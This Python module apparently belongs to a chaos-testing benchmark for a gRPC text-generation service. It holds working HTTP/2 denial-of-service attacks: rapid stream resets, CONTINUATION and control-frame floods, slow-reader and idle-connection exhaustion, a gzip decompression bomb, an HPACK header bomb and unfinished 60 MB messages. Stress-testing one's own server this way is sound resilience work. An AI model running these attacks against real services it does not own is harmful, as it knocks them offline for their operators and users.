"""Attacks by what HTTP/2 and gRPC allow, or nearly allow, a client to send."""

from __future__ import annotations

import contextlib
import gzip
import socket
import threading
from collections import Counter

from hyperframe.frame import ContinuationFrame, PingFrame, RstStreamFrame, SettingsFrame, WindowUpdateFrame

from benchmarks.chaos.attack import Attack, Did, by_threads
from benchmarks.chaos.raw import Raw, data, message
from charloom.v1 import generation_pb2

GENERATE, MODELS = "/charloom.v1.GenerationService/Generate", "/charloom.v1.ModelService/ListModels"
LONG = generation_pb2.GenerateRequest(options=generation_pb2.GenerationOptions(prompt="The ", max_tokens=4000))
CANCEL = 8
IDLE_CONNECTIONS = 1_000
"""Of each thread."""
STREAMS = 200
"""Of a connection."""
LARGE_MESSAGES, LARGE = 16, 60_000_000
"""Of each thread, and bytes of one."""
BOMB = gzip.compress(bytes(2**30), 9)
"""A gibibyte of zeros in a mebibyte."""


def resets(target: str, over: threading.Event, did: Did) -> None:
    """Calls that are reset as soon as they are made."""
    with Raw(target) as connection:
        while not over.is_set():
            for _ in range(50):
                begin = connection.headers(GENERATE)
                stream = begin.stream_id
                connection.send(begin, data(stream, message(LONG)), RstStreamFrame(stream, error_code=CANCEL))
                did["calls"] += 1
            connection.skip()


def cut_off(target: str, over: threading.Event, did: Did) -> None:
    """Streams whose connection is reset once the text has begun."""
    while not over.is_set():
        connection = Raw(target)
        for _ in range(4):
            begin = connection.headers(GENERATE)
            connection.send(begin, data(begin.stream_id, message(LONG)))
        with contextlib.suppress(OSError):
            connection.socket.recv(1000)
        connection.reset()
        did["connections"] += 1


def control_frames(target: str, over: threading.Event, did: Did) -> None:
    """Pings, settings and windows without end."""
    frames = [PingFrame(0, b"12345678"), SettingsFrame(0), WindowUpdateFrame(0, window_increment=1)]
    with Raw(target) as connection:
        while not over.is_set():
            connection.send(*frames * 100)
            connection.skip()
            did["frames"] += 300


def endless_headers(target: str, over: threading.Event, did: Did) -> None:
    """Headers that go on without end."""
    with Raw(target) as connection:
        begin = connection.headers(MODELS, complete=False)
        connection.send(begin)
        field = b"\x00\x03x-a\x7f\x81\x3e" + b"z" * 8064  # not indexed, 3 + 8064 bytes
        while not over.is_set():
            connection.send(ContinuationFrame(begin.stream_id, field))
            connection.skip()
            did["frames"] += 1


def half_calls(target: str, over: threading.Event, did: Did) -> None:
    """Calls whose request never comes, and such of which half a message comes."""
    with Raw(target) as connection:
        for number in range(STREAMS):
            begin = connection.headers(GENERATE)
            part = message(LONG)[: 8 if number % 2 else 0]
            connection.send(begin, data(begin.stream_id, part, last=False))
            did["calls"] += 1
        while not over.wait(0.1):
            connection.skip()


def slow_readers(target: str, over: threading.Event, did: Did) -> None:
    """Long texts of which nothing is read."""
    with Raw(target, window=0) as connection:
        for _ in range(STREAMS):
            begin = connection.headers(GENERATE)
            connection.send(begin, data(begin.stream_id, message(LONG)))
            did["calls"] += 1
        while not over.wait(0.1):
            connection.skip()


def idle_connections(target: str, over: threading.Event, did: Did) -> None:
    """Connections over which nothing is said, half of them not even that they are HTTP/2."""
    host, _, port = target.rpartition(":")
    with contextlib.ExitStack() as stack:
        for number in range(IDLE_CONNECTIONS):
            if over.is_set():
                return
            if number % 2:
                stack.enter_context(Raw(target))
            else:
                stack.enter_context(socket.create_connection((host, int(port)), timeout=5))
            did["connections"] += 1
        over.wait()


def bombs(target: str, over: threading.Event, did: Did) -> None:
    """Messages of a mebibyte that are a gibibyte, and headers whose every byte is four thousand."""
    with Raw(target) as connection:
        begin = connection.headers(MODELS, [("grpc-encoding", "gzip")])
        connection.send(begin)
        rest = message(BOMB, compressed=True)
        while rest and not over.is_set():
            rest = rest[connection.send_some(begin.stream_id, rest) or over.wait(0.001) :]
        did["messages"] += not rest
        over.wait(0.02)
    with Raw(target) as connection:
        begin = connection.headers(MODELS, [("x-bomb", "z" * 4000)])
        # The newest entry of the table, index 62, ten thousand times: 40 MB in 10 kB.
        begin.data += b"\xbe" * 10_000
        connection.send(begin, data(begin.stream_id, message(b"")))
        did["headers"] += 1
        with contextlib.suppress(TimeoutError):
            connection.socket.recv(1000)


def large_messages(target: str, over: threading.Event, did: Did) -> None:
    """Messages of 60 MB on many connections at once, none of which comes to its end."""
    with contextlib.ExitStack() as stack:
        unfinished: list[tuple[Raw, int]] = []
        left = Counter[int]()
        for _ in range(LARGE_MESSAGES):
            connection = stack.enter_context(Raw(target))
            begin = connection.headers(GENERATE)
            size = LARGE.to_bytes(4, "big")
            connection.send(begin, data(begin.stream_id, b"\x00" + size, last=False))
            left[len(unfinished)] = LARGE - 1
            unfinished.append((connection, begin.stream_id))
        part = bytes(16_000)
        while not over.is_set():
            sent = 0
            for number, (connection, stream) in enumerate(unfinished):
                count = connection.send_some(stream, part[: left[number]])
                left[number] -= count
                sent += count
            did["bytes"] += sent
            if not sent:
                over.wait(0.05)


ATTACKS: tuple[Attack, ...] = (
    by_threads("calls reset at once", resets),
    by_threads("connections reset in the middle of texts", cut_off),
    by_threads("pings, settings and windows without end", control_frames),
    by_threads("headers without end", endless_headers),
    by_threads(f"{4 * STREAMS} calls without a request", half_calls),
    by_threads(f"{4 * STREAMS} texts that nobody reads", slow_readers),
    by_threads(f"{4 * IDLE_CONNECTIONS:,} idle connections", idle_connections),
    by_threads("compression bombs", bombs, settling=6.0),
    by_threads(f"unfinished messages of 60 MB on {4 * LARGE_MESSAGES} connections", large_messages),
)
